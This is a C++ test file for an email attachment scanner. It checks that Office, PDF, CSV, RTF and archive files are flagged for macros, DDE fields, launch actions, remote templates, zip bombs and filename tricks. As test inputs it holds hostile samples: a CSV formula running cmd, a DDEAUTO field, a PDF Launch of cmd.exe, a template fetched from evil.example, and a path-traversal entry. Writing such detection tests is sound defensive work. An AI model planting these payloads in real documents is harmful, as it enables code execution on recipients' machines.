#include <doctest/doctest.h>

#include <algorithm>

#include "mail/message.hpp"
#include "mail/parts.hpp"
#include "support/sheets.hpp"

namespace trede::mail {

namespace {

using test::Part;

std::vector<Flag> flags_of(std::string_view name, std::string_view bytes) {
    Attachment attachment;
    attachment.name = name;
    look_into(attachment, bytes, 0);
    std::ranges::sort(attachment.flags);
    return attachment.flags;
}

std::string words_in(std::string_view name, std::string_view bytes) {
    Attachment attachment;
    attachment.name = name;
    look_into(attachment, bytes, 0);
    return attachment.text;
}

std::string office(const std::vector<Part>& more) {
    std::vector<Part> parts = {{.name = "[Content_Types].xml", .content = "<Types/>"}};
    parts.insert(parts.end(), more.begin(), more.end());
    return test::make_zip(parts);
}

std::string wide(std::string_view text) {
    std::string bytes;
    for (const char c : text) {
        bytes += c;
        bytes += '\0';
    }
    return bytes;
}

using Flags = std::vector<Flag>;

}  // namespace

TEST_CASE("a good file has no flags, and its words can be searched") {
    const std::string docx = office(
        {{.name = "word/document.xml",
          .content = "<w:p><w:r><w:t>Kenmerk IBT-2026-</w:t></w:r><w:r><w:t>001-9001</w:t></w:r>"
                     "</w:p>"},
         {.name = "word/_rels/document.xml.rels",
          .content = "<Relationship Type=\"http://x/hyperlink\" Target=\"https://aardam.example\" "
                     "TargetMode=\"External\"/>"}});
    CHECK(flags_of("antwoord.docx", docx) == Flags{});
    CHECK(words_in("antwoord.docx", docx).find("IBT-2026-001-9001") != std::string::npos);
    CHECK(flags_of("foto.jpg", "\xFF\xD8\xFF\xE0 foto van een brief") == Flags{});
    CHECK(flags_of("brief.pdf", "%PDF-1.7\n1 0 obj <</Type /Page /Annots []>>") == Flags{});
    CHECK(flags_of("lijst.csv", "gemeente;plekken\nAardam;-5\n") == Flags{});
    CHECK(flags_of("oud.doc", "{\\rtf1 tekst}") == Flags{});
    const std::string zip = test::make_zip({{.name = "brief.txt", .content = "woorden"}});
    CHECK(flags_of("stukken.zip", zip) == Flags{});
    CHECK(words_in("stukken.zip", zip).find("brief.txt") != std::string::npos);
}

TEST_CASE("what can run, fetch or hide is flagged") {
    CHECK(flags_of("a.docm", office({{.name = "word/vbaProject.bin", .content = "x"}})) ==
          Flags{Flag::macro});
    CHECK(flags_of("a.xlsm", office({{.name = "xl/macrosheets/sheet1.xml", .content = "<x/>"}})) ==
          Flags{Flag::macro});
    CHECK(
        flags_of("a.docx", office({{.name = "word/document.xml",
                                    .content = "<w:instrText> DDEAUTO c:\\cmd</w:instrText>"}})) ==
        Flags{Flag::dde});
    CHECK(flags_of("a.docx", office({{.name = "word/embeddings/oleObject1.bin",
                                      .content = "x"}})) == Flags{Flag::ole});
    CHECK(flags_of("a.docx", office({{.name = "word/_rels/settings.xml.rels",
                                      .content = "<Relationship Type=\"http://x/attachedTemplate\" "
                                                 "Target=\"http://evil.example/t.dotm\" "
                                                 "TargetMode=\"External\"/>"}})) ==
          Flags{Flag::external_link});
    CHECK(flags_of("a.xlsx", office({{.name = "xl/sheet.xml",
                                      .content = "<!DOCTYPE x [<!ENTITY a \"b\">]>"}})) ==
          Flags{Flag::bomb});
    const std::string ole("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
    const std::string end(2, '\0');
    CHECK(flags_of("a.doc", ole + wide("_VBA_PROJECT") + end) == Flags{Flag::macro});
    CHECK(flags_of("a.xlsx", ole + wide("EncryptedPackage") + end) == Flags{Flag::encrypted});
    CHECK(flags_of("a.doc", ole + wide("VBATIM") + end) == Flags{});
    // BoundSheet8 of a macro sheet: position, visible, type 1, name "Macro1".
    const std::string sheet = std::string("\x85\x00\x0E\x00\x00\x00\x00\x00\x00\x01\x06\x00", 12);
    CHECK(flags_of("a.xls", ole + sheet + "Macro1") == Flags{Flag::macro});
    CHECK(flags_of("a.pdf", "%PDF-1.7 <</S /JavaScript /JS (app.alert(1))>>") ==
          Flags{Flag::script});
    CHECK(flags_of("a.pdf", "%PDF-1.7 <</S /J#61vaScript>>") == Flags{Flag::script});
    CHECK(flags_of("a.pdf", "%PDF-1.7 <</S /Launch /F (cmd.exe)>>") == Flags{Flag::launch});
    CHECK(flags_of("a.pdf", "%PDF-1.7 <</S /Launcher>>") == Flags{});
    CHECK(flags_of("a.csv", "naam;plekken\n=cmd|' /C calc'!A0;1\n") == Flags{Flag::dde});
    CHECK(flags_of("a.rtf", "{\\rtf1{\\object\\objdata 0105}}") == Flags{Flag::ole});
    CHECK(flags_of("a.html", "<html><script>x()</script>") == Flags{Flag::script});
    CHECK(flags_of("a.exe", "MZ\x90") == Flags{Flag::program});
    CHECK(flags_of("foto.jpg", "MZ\x90") == Flags{Flag::program, Flag::other_type});
    CHECK(flags_of("antwoord.pdf.exe", "MZ\x90") == Flags{Flag::program, Flag::double_extension});
    CHECK(flags_of("antwoord.pdf", "geen pdf") == Flags{Flag::other_type});
    CHECK(flags_of("stukken.7z", "7z\xBC\xAF\x27\x1C") == Flags{Flag::closed_archive});
}

TEST_CASE("archives are opened two deep, and bombs not at all") {
    const std::string one = test::make_zip({{.name = "brief.txt", .content = "woorden"}});
    const std::string two = test::make_zip({{.name = "een.zip", .content = one}});
    const std::string three = test::make_zip({{.name = "twee.zip", .content = two}});
    CHECK(flags_of("a.zip", two) == Flags{Flag::nested_archive});
    CHECK(words_in("a.zip", two).find("woorden") != std::string::npos);
    CHECK(flags_of("a.zip", three) == Flags{Flag::nested_archive, Flag::too_deep});
    const std::string bomb =
        test::make_zip({{.name = "nullen.bin", .content = std::string(20U << 20U, '\0')}});
    CHECK(bomb.size() < 100'000);
    CHECK(flags_of("a.zip", bomb) == Flags{Flag::bomb});
    CHECK(flags_of("a.zip", test::make_zip({{.name = "../x", .content = "x"}})) ==
          Flags{Flag::bomb});
    CHECK(flags_of("a.zip", one.substr(0, one.size() / 2)) == Flags{Flag::damaged});
    const std::string runs = test::make_zip({{.name = "factuur.pdf.js", .content = "x"}});
    CHECK(flags_of("a.zip", runs) == Flags{Flag::program, Flag::double_extension});
}

TEST_CASE("names are shown without what hides in them") {
    // U+202E turns "fdp.exe" round, so that it reads "exe.pdf".
    CHECK(plain_name("brief\u202Efdp.exe") == "brieffdp.exe");
    CHECK(plain_name("a/b\\c.pdf") == "c.pdf");
    CHECK(plain_name("regel\r\neen") == "regel een");
}

TEST_CASE("every flag and defect has one word") {
    for (const Flag flag : flags) CHECK(parse_flag(word(flag)) == flag);
    for (const Defect defect : defects) CHECK(parse_defect(word(defect)) == defect);
}

}  // namespace trede::mail
